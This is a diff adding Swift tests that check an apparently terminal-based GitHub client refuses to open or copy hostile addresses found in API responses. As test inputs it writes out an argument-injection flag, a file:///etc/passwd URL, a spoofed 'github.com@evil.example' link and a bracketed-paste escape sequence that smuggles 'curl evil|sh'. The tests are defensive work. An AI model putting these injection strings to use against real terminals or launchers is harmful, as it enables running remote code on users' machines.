@@ -40,4 +40,38 @@ struct PageKeyTests {
     app.mock.type("o")
     try await app.wait { app.outside.pages == ["https://github.com/octocat?tab=followers"] }
   }
+
+  @Test(arguments: ["--gpu-launcher=xterm", "file:///etc/passwd", "https://x/\\u001b[201~\\ncurl evil|sh\\n"])
+  func `The page of a profile is on the server, whatever address a response contains`(address: String) async throws {
+    let app = try App(replacing: (#""html_url":"https://github.com/octocat""#, by: #""html_url":"\#(address)""#))
+    app.start(.profile(.user(try Login("octocat"))))
+    try await app.wait(for: "San Francisco")
+    app.mock.type("o")
+    try await app.wait { app.outside.pages == ["https://github.com/octocat"] }
+    app.mock.type("y")
+    try await app.wait(for: "Copied https://github.com/octocat,")
+    app.cancel()
+  }
+
+  @Test func `An address that is not one of a web page is not opened, and the footer says so`() async throws {
+    let address = "https://github.com@evil.example/"
+    let app = try App(replacing: ("https://example.com/octocat", by: address))
+    app.start(.socialAccounts)
+    try await app.wait(for: "evil.example")
+    app.mock.type("o")
+    try await app.wait(for: "Not a plain http or https URL, so not opened: https://github.com@")
+    app.mock.type("y")
+    try await app.wait(for: "Copied \(address)")
+    #expect(app.outside.pages.isEmpty)
+    app.cancel()
+  }
+
+  @Test func `A text with control characters is not copied, and the footer says so`() async throws {
+    let app = try App(replacing: ("https://example.com/octocat", by: #"https://x.example/\u001b[201~\ncurl evil|sh\n"#))
+    app.start(.socialAccounts)
+    try await app.wait(for: "x.example")
+    app.mock.type("y")
+    try await app.wait(for: "Not copied, because of invisible characters in: https")
+    app.cancel()
+  }
 }
